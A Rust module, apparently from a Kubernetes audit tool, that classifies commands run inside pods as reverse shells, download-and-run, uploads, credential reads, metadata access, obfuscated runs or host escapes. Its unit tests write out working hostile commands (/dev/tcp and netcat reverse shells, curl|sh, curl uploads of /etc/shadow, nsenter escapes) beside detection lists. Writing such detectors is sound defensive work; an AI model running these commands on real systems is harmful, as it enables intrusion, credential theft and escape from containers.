//! Classifying a decoded exec command: what was run inside the pod.

/// What an exec'd command does, as far as its text shows.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ExecClass {
    /// A shell with no script: someone is typing.
    InteractiveShell,
    /// A shell connected back to a remote host (`/dev/tcp`, `nc -e`, `mkfifo`, `socat`…).
    ReverseShell,
    /// Fetch a script or binary and run it (`curl … | sh`, `wget -O- … | bash`).
    DownloadAndRun,
    /// Fetch from a remote host without running what came (`curl -o /tmp/x http://…`,
    /// `wget https://…`): tools brought in, or data sent out. Not from loopback or
    /// in-cluster names (health checks), not the metadata service (its own class).
    Download,
    /// Send data to a remote host (`curl -d @- http://…`, `curl -T file`, `wget
    /// --post-file`): a file or a command's output leaving the pod. Not a download.
    Upload,
    /// Reading service-account tokens, kubelet or cloud credentials, SSH keys, shadow.
    CredentialRead,
    /// Talking to the cloud instance metadata service.
    CloudMetadata,
    /// `tar cf -` / `tar xf -`: `kubectl cp` copying files out of or into the container.
    TarCopy,
    /// Reconnaissance: who am I, where am I.
    Discovery,
    /// Installing tools or running known offensive tools and miners.
    Tooling,
    /// A payload decoded and run, its text hidden from the log: `echo … | base64 -d | sh`,
    /// `eval "$(… | base64 --decode)"`, `python -c 'exec(base64.b64decode(…))'`,
    /// `powershell -enc …`.
    ObfuscatedRun,
    /// Leaving the container for its node: `nsenter` into PID 1's namespaces, `chroot` into
    /// the node's root mounted in the pod, `/proc/1/root`, the container runtime's socket,
    /// a cgroup `release_agent`, the node's disk mounted.
    HostEscape,
}

impl ExecClass {
    pub fn as_str(self) -> &'static str {
        match self {
            ExecClass::InteractiveShell => "interactive-shell",
            ExecClass::ReverseShell => "reverse-shell",
            ExecClass::DownloadAndRun => "download-and-run",
            ExecClass::Download => "download",
            ExecClass::Upload => "upload",
            ExecClass::CredentialRead => "credential-read",
            ExecClass::CloudMetadata => "cloud-metadata",
            ExecClass::TarCopy => "tar-copy",
            ExecClass::Discovery => "discovery",
            ExecClass::Tooling => "tooling",
            ExecClass::ObfuscatedRun => "obfuscated-run",
            ExecClass::HostEscape => "host-escape",
        }
    }
}

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "ash",
    "dash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "fish",
    "busybox",
    "pwsh",
    "powershell",
    "cmd",
    "cmd.exe",
];

/// Base name of a program path: `/usr/bin/bash` → `bash`.
fn program(arg: &str) -> &str {
    arg.rsplit('/').next().unwrap_or(arg)
}

fn is_shell(arg: &str) -> bool {
    SHELLS.contains(&program(arg))
}

/// Classifies an argv. A command may fall in several classes.
pub fn classify(argv: &[String], stdin: bool, tty: bool) -> Vec<ExecClass> {
    let mut out = Vec::new();
    if argv.is_empty() {
        return out;
    }
    let line = argv.join(" ");
    let lower = line.to_ascii_lowercase();
    let shell_only = is_shell(&argv[0])
        && argv[1..].iter().all(|a| {
            matches!(
                a.as_str(),
                "-i" | "-l" | "--login" | "-il" | "-li" | "sh" | "bash"
            )
        });
    if shell_only && (stdin || tty || argv.len() == 1) {
        out.push(ExecClass::InteractiveShell);
    }
    if is_reverse_shell(&lower) {
        out.push(ExecClass::ReverseShell);
    }
    let metadata = METADATA_HOSTS.iter().any(|h| lower.contains(h));
    if is_download_and_run(&lower) {
        out.push(ExecClass::DownloadAndRun);
    } else if !metadata && is_download(&lower) {
        out.push(if is_upload(argv) {
            ExecClass::Upload
        } else {
            ExecClass::Download
        });
    }
    if CREDENTIAL_PATHS.iter().any(|p| lower.contains(p)) || reads_process_environ(&lower) {
        out.push(ExecClass::CredentialRead);
    }
    if metadata {
        out.push(ExecClass::CloudMetadata);
    }
    if is_tar_copy(argv) {
        out.push(ExecClass::TarCopy);
    }
    if TOOLS.iter().any(|t| words(&lower).any(|w| w == *t)) {
        out.push(ExecClass::Tooling);
    }
    if is_obfuscated_run(&lower) {
        out.push(ExecClass::ObfuscatedRun);
    }
    if is_host_escape(&lower) {
        out.push(ExecClass::HostEscape);
    }
    if out.is_empty() && DISCOVERY.iter().any(|d| words(&lower).any(|w| w == *d)) {
        out.push(ExecClass::Discovery);
    }
    out
}

/// A known offensive tool, tunnel or miner other than kubectl (which every CI job runs).
pub fn runs_offensive_tool(argv: &[String]) -> bool {
    let lower = argv.join(" ").to_ascii_lowercase();
    TOOLS
        .iter()
        .filter(|t| **t != "kubectl")
        .any(|t| words(&lower).any(|w| w == *t))
}

/// `/proc/<pid>/environ` of any process (secrets passed in environment variables).
fn reads_process_environ(lower: &str) -> bool {
    lower.match_indices("/proc/").any(|(i, _)| {
        let rest = &lower[i + "/proc/".len()..];
        let pid: String = rest.chars().take_while(char::is_ascii_digit).collect();
        !pid.is_empty() && rest[pid.len()..].starts_with("/environ")
    })
}

fn words(s: &str) -> impl Iterator<Item = &str> {
    s.split(|c: char| c.is_whitespace() || ";|&()'\"`$<>".contains(c))
        .filter(|w| !w.is_empty())
        .map(program)
}

fn is_reverse_shell(lower: &str) -> bool {
    let has = |w: &str| words(lower).any(|x| x == w);
    let netcat =
        has("nc") || has("ncat") || has("netcat") || has("nc.traditional") || has("nc.openbsd");
    // A shell being handed a socket: duplicated descriptors, a pty, or a shell started from
    // the same script that opened the connection.
    let spawns_shell = lower.contains("dup2")
        || lower.contains("pty.spawn")
        || lower.contains("/bin/sh")
        || lower.contains("/bin/bash")
        || lower.contains("sh -i")
        || lower.contains("cmd.exe")
        || lower.contains("exec(");
    let scripted_socket =
        (lower.contains("socket") || lower.contains("fsockopen") || lower.contains("tcpsocket"))
            && spawns_shell;
    lower.contains("/dev/tcp/")
        || lower.contains("/dev/udp/")
        || (netcat
            && (lower.contains(" -e ")
                || lower.contains(" -c ")
                || lower.contains("mkfifo")
                || spawns_shell))
        || (lower.contains("mkfifo") && (netcat || has("openssl") || has("telnet")))
        || (has("socat")
            && (lower.contains("exec:") || lower.contains("tcp:") || lower.contains("tcp4:")))
        || scripted_socket
}

fn is_download_and_run(lower: &str) -> bool {
    const FETCH: &[&str] = &[
        "curl",
        "wget",
        "fetch ",
        "busybox wget",
        "invoke-webrequest",
        "iwr ",
        "urllib",
        "requests.get",
    ];
    if !FETCH.iter().any(|f| lower.contains(f)) {
        return false;
    }
    let interpreter = |w: &str| {
        is_shell(w)
            || matches!(
                program(w),
                "python" | "python3" | "perl" | "ruby" | "php" | "node" | "sudo"
            )
    };
    // curl … | sh
    let pipes_to_shell = lower
        .split('|')
        .skip(1)
        .any(|seg| first_word(seg).is_some_and(interpreter));
    // sh -c "$(curl …)", bash <(curl …), `wget -O- …`
    let substituted = ["$(curl", "$(wget", "<(curl", "<(wget", "`curl", "`wget"]
        .iter()
        .any(|p| lower.contains(p));
    // curl -o x …  && sh x / ; ./x / chmod +x
    let runs_file = lower.contains("chmod +x")
        || lower.contains("chmod 7")
        || lower.contains("chmod 5")
        || ["&&", ";"].iter().any(|sep| {
            lower.split(sep).skip(1).any(|seg| {
                let first = seg.split_whitespace().next().unwrap_or_default();
                first.starts_with("./")
                    || first.starts_with("/tmp/")
                    || first.starts_with("/dev/shm/")
                    || interpreter(first)
            })
        })
        || lower.contains("| iex")
        || lower.contains("exec(");
    pipes_to_shell || substituted || runs_file
}

/// The program a pipeline segment starts with, without the separator or quote stuck to it
/// (`sh;` in `… | sh; curl …`, `bash)` in `$(… | bash)`).
fn first_word(seg: &str) -> Option<&str> {
    let w = seg.split_whitespace().next()?;
    Some(w.trim_end_matches([';', '&', ')', '`', '"', '\'']))
}

/// A decoder's output run by a shell or an interpreter (see [`ExecClass::ObfuscatedRun`]).
fn is_obfuscated_run(lower: &str) -> bool {
    let decodes = |seg: &str| {
        let has = |w: &str| words(seg).any(|x| x == w);
        (has("base64") && (seg.contains(" -d") || seg.contains("--decode") || seg.contains(" -D")))
            || (has("xxd") && seg.contains(" -r"))
            || (has("openssl") && seg.contains(" -d"))
            || seg.contains("b64decode")
            || seg.contains("frombase64string")
    };
    let runs = |w: &str| {
        is_shell(w)
            || matches!(
                program(w),
                "python" | "python3" | "python2" | "perl" | "ruby" | "php" | "node" | "eval"
            )
    };
    // … | base64 -d | sh
    let segs: Vec<&str> = lower.split('|').collect();
    let piped = segs
        .windows(2)
        .any(|w| decodes(w[0]) && first_word(w[1]).is_some_and(runs));
    // eval "$(… base64 -d)", sh -c "$(… | base64 -d)", exec(base64.b64decode(…))
    let evaluated = decodes(lower)
        && (words(lower).any(|w| w == "eval" || w == "iex")
            || lower.contains("exec(")
            || [" -c $(", " -c \"$(", " -c '$("]
                .iter()
                .any(|p| lower.contains(p)));
    let encoded_powershell = words(lower).any(|w| w == "powershell" || w == "pwsh")
        && lower
            .split_whitespace()
            .any(|t| matches!(t, "-enc" | "-e" | "-encodedcommand" | "-ec"));
    piped || evaluated || encoded_powershell
}

/// A command that reaches the node from inside the container (see [`ExecClass::HostEscape`]).
fn is_host_escape(lower: &str) -> bool {
    const HOST_ROOTS: &[&str] = &[
        "/host",
        "/rootfs",
        "/hostfs",
        "/host-root",
        "/node",
        "/mnt/host",
    ];
    let tokens: Vec<&str> = lower
        .split(|c: char| c.is_whitespace() || ";|&'\"`()".contains(c))
        .filter(|t| !t.is_empty())
        .collect();
    let nsenter_init = tokens.iter().enumerate().any(|(i, t)| {
        program(t) == "nsenter"
            && tokens[i + 1..].windows(2).any(|w| {
                matches!(w[0], "-t" | "--target") && w[1] == "1"
            } || w[0] == "--target=1" || w[0] == "-t1")
    });
    let chroot_host = tokens
        .windows(2)
        .any(|w| program(w[0]) == "chroot" && HOST_ROOTS.contains(&w[1].trim_end_matches('/')));
    nsenter_init
        || chroot_host
        || lower.contains("/proc/1/root")
        || lower.contains("docker.sock")
        || lower.contains("containerd.sock")
        || lower.contains("crio.sock")
        || lower.contains("release_agent")
        || lower.contains("core_pattern")
        || (words(lower).any(|w| w == "mount" || w == "debugfs")
            && (lower.contains("/dev/sd")
                || lower.contains("/dev/nvme")
                || lower.contains("/dev/vd")
                || lower.contains("/dev/xvd")))
}

/// A fetching tool (`curl`, `wget`, PowerShell's `iwr`) given the URL of a remote host.
fn is_download(lower: &str) -> bool {
    const FETCHERS: &[&str] = &["curl", "wget", "invoke-webrequest", "iwr"];
    words(lower).any(|w| FETCHERS.contains(&w))
        && lower
            .split(|c: char| c.is_whitespace() || "'\"`()".contains(c))
            .filter_map(|tok| tok.split_once("://"))
            .any(|(_, rest)| !is_local_host(rest))
}

/// A fetcher told to send a body (`curl -d/--data…/-F/--form/-T/--upload-file`, `wget
/// --post-data/--post-file`): what it sends leaves the pod. Read from the command as typed
/// (curl's `-F` sends a form, `-f` only fails quietly), inside `sh -c` strings too, and only
/// in the fetcher's own command (`curl -o x http://…; tar -T list` sends nothing); called on
/// commands [`is_download`] took.
fn is_upload(argv: &[String]) -> bool {
    const FETCHERS: &[&str] = &["curl", "wget"];
    let sends = |tok: &str| {
        let flag = tok.split_once('=').map_or(tok, |(f, _)| f);
        flag.starts_with("--data")
            || matches!(
                flag,
                "--form"
                    | "--form-string"
                    | "--upload-file"
                    | "--post-data"
                    | "--post-file"
                    | "--body-data"
                    | "--body-file"
            )
            // `-d x`, and the value attached: `-d@file`, `-T/etc/shadow`, `-Fx=@f`.
            || ["-d", "-F", "-T"].iter().any(|f| tok.starts_with(f))
    };
    // The whole argv is one command; a string inside it (`sh -c '…'`) may hold several,
    // separated by `|`, `;`, `&` or a line break.
    let whole = argv.join(" ");
    whole.split(['|', ';', '&', '\n']).any(|command| {
        let mut words = command
            .split(|c: char| c.is_whitespace() || "'\"`()".contains(c))
            .filter(|w| !w.is_empty());
        words.any(|w| FETCHERS.contains(&program(w))) && words.any(sends)
    })
}

/// Whether the authority of a URL (`host[:port]/path` after `://`, lower-cased) is this
/// pod or the cluster: loopback, or a cluster-internal DNS name.
#[expect(
    clippy::case_sensitive_file_extension_comparisons,
    reason = "a host name, not a file name, and the command line is lower-cased already"
)]
fn is_local_host(rest: &str) -> bool {
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    let host = if host.starts_with('[') {
        host.split(']')
            .next()
            .unwrap_or_default()
            .trim_start_matches('[')
    } else {
        host.split(':').next().unwrap_or_default()
    };
    host.is_empty()
        || host == "localhost"
        || host == "::1"
        || host == "0.0.0.0"
        || host.starts_with("127.")
        || host.ends_with(".svc")
        || host.contains(".svc.")
        || host.ends_with(".cluster.local")
        || !host.contains(['.', ':'])
}

/// `tar` reading or writing its archive on stdin/stdout (`tar cf - …`, `tar xmf - -C …`):
/// how kubectl cp moves files. Looks inside `sh -c` strings too.
fn is_tar_copy(argv: &[String]) -> bool {
    let joined = argv.join(" ");
    let tokens: Vec<&str> = joined
        .split(|c: char| c.is_whitespace() || c == ';' || c == '|' || c == '&')
        .filter(|t| !t.is_empty())
        .collect();
    tokens
        .iter()
        .enumerate()
        .filter(|(_, t)| program(t) == "tar")
        .any(|(i, _)| {
            let rest = &tokens[i + 1..];
            rest.windows(2).any(|w| {
                let flags = w[0].trim_start_matches('-');
                w[1] == "-"
                    && flags.ends_with('f')
                    && flags.chars().all(|c| c.is_ascii_alphabetic())
                    && (flags.contains('c') || flags.contains('x'))
            }) || rest.contains(&"--file=-")
        })
}

const CREDENTIAL_PATHS: &[&str] = &[
    "/var/run/secrets",
    "/run/secrets/kubernetes.io",
    "/etc/kubernetes",
    "/var/lib/kubelet",
    "/.kube",
    "kubeconfig",
    "/.aws",
    "/.azure",
    "/.config/gcloud",
    "/.docker/config.json",
    "/.ssh",
    "id_rsa",
    "id_ed25519",
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/sudoers",
    "/etc/master.passwd",
    "/proc/self/environ",
    "/proc/1/environ",
    "authorized_keys",
    ".bash_history",
    ".git-credentials",
    ".netrc",
    ".pgpass",
    ".vault-token",
];

const METADATA_HOSTS: &[&str] = &[
    "169.254.169.254",
    "metadata.google.internal",
    "169.254.170.2",
    "fd00:ec2::254",
    "100.100.100.200",
    "metadata.azure.com",
    "169.254.169.123",
    // The IMDS address written as one decimal or hex number, dotted hex or octal, or
    // IPv4-mapped IPv6: URL parsers accept them all.
    "2852039166",
    "0xa9fea9fe",
    "0xa9.0xfe.0xa9.0xfe",
    "0251.0376.0251.0376",
    "0251.254.169.254",
    "169.254.43518",
    "::ffff:a9fe:a9fe",
    "::ffff:169.254.169.254",
    "instance-data.ec2.internal",
];

const TOOLS: &[&str] = &[
    "xmrig",
    "minerd",
    "cpuminer",
    "kubectl",
    "kube-hunter",
    "peirates",
    "kubeletctl",
    "nmap",
    "masscan",
    "zgrab",
    "linpeas.sh",
    "linpeas",
    "deepce",
    "cdk",
    "botb",
    "amicontained",
    "chisel",
    "frpc",
    "ngrok",
    "gsocket",
    "tmate",
];

const DISCOVERY: &[&str] = &[
    "whoami", "id", "uname", "hostname", "ps", "env", "printenv", "ifconfig", "ip", "netstat",
    "ss", "mount", "df", "capsh", "nsenter",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn c(argv: &[&str]) -> Vec<&'static str> {
        let argv: Vec<String> = argv.iter().map(|s| (*s).to_owned()).collect();
        classify(&argv, true, true)
            .into_iter()
            .map(ExecClass::as_str)
            .collect()
    }

    #[test]
    fn shells_and_not_shells() {
        assert_eq!(c(&["/bin/bash"]), vec!["interactive-shell"]);
        assert_eq!(c(&["sh", "-i"]), vec!["interactive-shell"]);
        assert!(c(&["sh", "-c", "echo hi"]).is_empty());
        assert!(c(&["ls", "/tmp"]).is_empty());
    }

    #[test]
    fn reverse_shells() {
        for argv in [
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"][..],
            &[
                "sh",
                "-c",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
            ],
            &["nc", "-e", "/bin/sh", "203.0.113.5", "9001"],
            &[
                "socat",
                "exec:'bash -li',pty,stderr",
                "tcp:203.0.113.5:4444",
            ],
            &[
                "python3",
                "-c",
                "import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",1));import pty; pty.spawn(\"sh\")",
            ],
        ] {
            assert!(c(argv).contains(&"reverse-shell"), "{argv:?}");
        }
        assert!(!c(&["echo", "bash -i is a flag"]).contains(&"reverse-shell"));
        let db_check = "import socket; socket.create_connection((\"db\", 5432), timeout=2)";
        assert!(!c(&["python3", "-c", db_check]).contains(&"reverse-shell"));
    }

    #[test]
    fn download_without_running_it() {
        for argv in [
            &["curl", "-sLo", "/tmp/k", "https://dl.example.net/kubectl"][..],
            &["wget", "http://203.0.113.50/x.tar.gz"],
            &[
                "sh",
                "-c",
                "curl -s -o /tmp/p.py http://user@[2001:db8::1]:8080/p.py",
            ],
        ] {
            let classes = c(argv);
            assert!(classes.contains(&"download"), "{argv:?}: {classes:?}");
            assert!(!classes.contains(&"download-and-run"), "{argv:?}");
        }
        for argv in [
            &["curl", "-s", "http://localhost:8080/healthz"][..],
            &["curl", "http://127.0.0.1:9090/metrics"],
            &["wget", "-qO-", "http://api.shop.svc.cluster.local/ready"],
            &["curl", "http://web:8080/"],
            &["curl", "http://169.254.169.254/latest/meta-data/"],
            &["sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"],
            &["cat", "https://example.com/notes.txt"],
        ] {
            assert!(!c(argv).contains(&"download"), "{argv:?}: {:?}", c(argv));
        }
    }

    #[test]
    fn regression_uploads_were_downloads() {
        let (up, down) = ("upload", "download");
        for argv in [
            &[
                "sh",
                "-c",
                "cat /tmp/dump | curl -d @- http://45.137.21.9/t",
            ][..],
            &["curl", "-T", "/etc/shadow", "https://paste.example.net/"],
            &["curl", "-Fdata=@/tmp/db.sql", "https://files.example.net/u"],
            &["curl", "--data-binary", "@/tmp/x", "https://x.example.net"],
            &["wget", "--post-file=/tmp/x", "http://203.0.113.9/"],
        ] {
            let got = c(argv);
            assert!(
                got.contains(&up) && !got.contains(&down),
                "{argv:?}: {got:?}"
            );
        }
        // curl's -f (fail quietly) and wget's -t (tries) send nothing.
        for argv in [
            &["curl", "-fsSL", "-o", "/tmp/k", "https://dl.example.net/k"][..],
            &["wget", "-t", "3", "https://dl.example.net/k"],
        ] {
            let got = c(argv);
            assert!(
                got.contains(&down) && !got.contains(&up),
                "{argv:?}: {got:?}"
            );
        }
        // Another command's flags after the fetcher's are not the fetcher's.
        let got = c(&[
            "sh",
            "-c",
            "curl -o /tmp/l https://dl.example.net/l; tar -T /tmp/l -cf /tmp/a",
        ]);
        assert!(got.contains(&down) && !got.contains(&up), "{got:?}");
        // Sending to this pod or the cluster is no upload (nor a download).
        assert!(c(&["curl", "-d", "{}", "http://localhost:8080/reload"]).is_empty());
    }

    #[test]
    fn download_and_run() {
        assert!(
            c(&["sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"]).contains(&"download-and-run")
        );
        assert!(
            c(&["sh", "-c", "wget -qO- https://x.example/m | bash"]).contains(&"download-and-run")
        );
        assert!(
            c(&[
                "sh",
                "-c",
                "curl -o /tmp/x http://h/x && chmod +x /tmp/x && /tmp/x"
            ])
            .contains(&"download-and-run")
        );
        assert!(!c(&["curl", "-s", "http://localhost:8080/healthz"]).contains(&"download-and-run"));
        assert!(
            c(&["sh", "-c", "sh -c \"$(curl -fsSL https://x.example/i.sh)\""])
                .contains(&"download-and-run")
        );
        assert!(
            c(&[
                "sh",
                "-c",
                "curl -o /tmp/x.sh https://h/x.sh && sh /tmp/x.sh"
            ])
            .contains(&"download-and-run")
        );
        assert!(c(&["bash", "-c", "bash <(curl -s https://h/x)"]).contains(&"download-and-run"));
    }

    /// `echo <b64> | base64 -d | bash` and `nsenter -t 1 … bash` were discovery at most.
    #[test]
    fn regression_decoded_payloads_and_node_escapes_were_not_classified() {
        let run = "obfuscated-run";
        assert!(c(&["sh", "-c", "echo YmFzaCAtaQ== | base64 -d | bash"]).contains(&run));
        assert!(c(&["bash", "-c", "eval \"$(echo aWQ= | base64 --decode)\""]).contains(&run));
        assert!(c(&["sh", "-c", "$(echo aWQK | base64 -d)"]).contains(&run));
        assert!(
            c(&[
                "python3",
                "-c",
                "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"
            ])
            .contains(&run)
        );
        assert!(c(&["powershell", "-enc", "SQBFAFgA"]).contains(&run));
        // The shell followed by `;` (another command after it) is still the shell.
        assert!(c(&["sh", "-c", "echo aWQ= | base64 -d | sh; echo done"]).contains(&run));
        assert!(
            c(&[
                "sh",
                "-c",
                "curl -s http://h.example/x | bash; rm -f /tmp/x"
            ])
            .contains(&"download-and-run")
        );
        // Decoding a value to read it runs nothing.
        assert!(!c(&["sh", "-c", "cat /tmp/v | base64 -d"]).contains(&run));
        assert!(!c(&["base64", "-d", "/tmp/v"]).contains(&run));

        let escape = "host-escape";
        assert!(
            c(&[
                "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"
            ])
            .contains(&escape)
        );
        assert!(c(&["nsenter", "--target", "1", "--mount", "sh"]).contains(&escape));
        assert!(c(&["sh", "-c", "nsenter --target=1 --all bash"]).contains(&escape));
        assert!(c(&["chroot", "/host", "bash"]).contains(&escape));
        assert!(c(&["sh", "-c", "cat /proc/1/root/etc/shadow"]).contains(&escape));
        assert!(c(&["sh", "-c", "docker -H unix:///var/run/docker.sock ps"]).contains(&escape));
        assert!(c(&["sh", "-c", "mkdir /m && mount /dev/sda1 /m"]).contains(&escape));
        // nsenter into the container's own namespaces, chroot elsewhere: not the node.
        assert!(!c(&["nsenter", "-t", "4242", "-n", "ip", "a"]).contains(&escape));
        assert!(!c(&["chroot", "/srv/jail", "sh"]).contains(&escape));
        assert!(!c(&["mount"]).contains(&escape));
    }

    #[test]
    fn credentials_metadata_and_tar() {
        assert_eq!(
            c(&["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
            vec!["credential-read"]
        );
        assert_eq!(
            c(&[
                "curl",
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
            ]),
            vec!["cloud-metadata"]
        );
        assert_eq!(
            c(&["tar", "cf", "-", "/etc/kubernetes"]),
            vec!["credential-read", "tar-copy"]
        );
        assert_eq!(c(&["tar", "xmf", "-", "-C", "/tmp"]), vec!["tar-copy"]);
        assert_eq!(
            c(&[
                "tar",
                "-czf",
                "-",
                "/var/run/secrets/kubernetes.io/serviceaccount"
            ]),
            vec!["credential-read", "tar-copy"]
        );
        assert_eq!(
            c(&["tar", "cf", "/tmp/data.tar", "/data"]),
            Vec::<&str>::new()
        );
        assert_eq!(c(&["id"]), vec!["discovery"]);
        assert_eq!(c(&["/tmp/xmrig", "-o", "pool"]), vec!["tooling"]);
    }

    #[test]
    fn regression_metadata_address_in_decimal_or_hex_was_not_cloud_metadata() {
        for url in [
            "http://2852039166/latest/meta-data/",
            "http://0xa9fea9fe/latest/meta-data/",
            "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        ] {
            assert_eq!(c(&["curl", "-s", url]), vec!["cloud-metadata"], "{url}");
        }
        assert!(!c(&["curl", "-s", "http://10.0.0.1:2852/x"]).contains(&"cloud-metadata"));
    }

    #[test]
    fn regression_shadow_sudoers_and_process_environ_reads_were_not_credential_reads() {
        for argv in [
            &["cat", "/etc/sudoers"][..],
            &["cat", "/root/.ssh/authorized_keys"],
            &["sh", "-c", "cat /proc/4242/environ | tr '\\0' '\\n'"],
            &["cat", "/etc/gshadow"],
        ] {
            assert!(c(argv).contains(&"credential-read"), "{argv:?}");
        }
        assert!(!c(&["cat", "/proc/cpuinfo"]).contains(&"credential-read"));
        assert!(!c(&["ls", "/proc/1/"]).contains(&"credential-read"));
    }
}
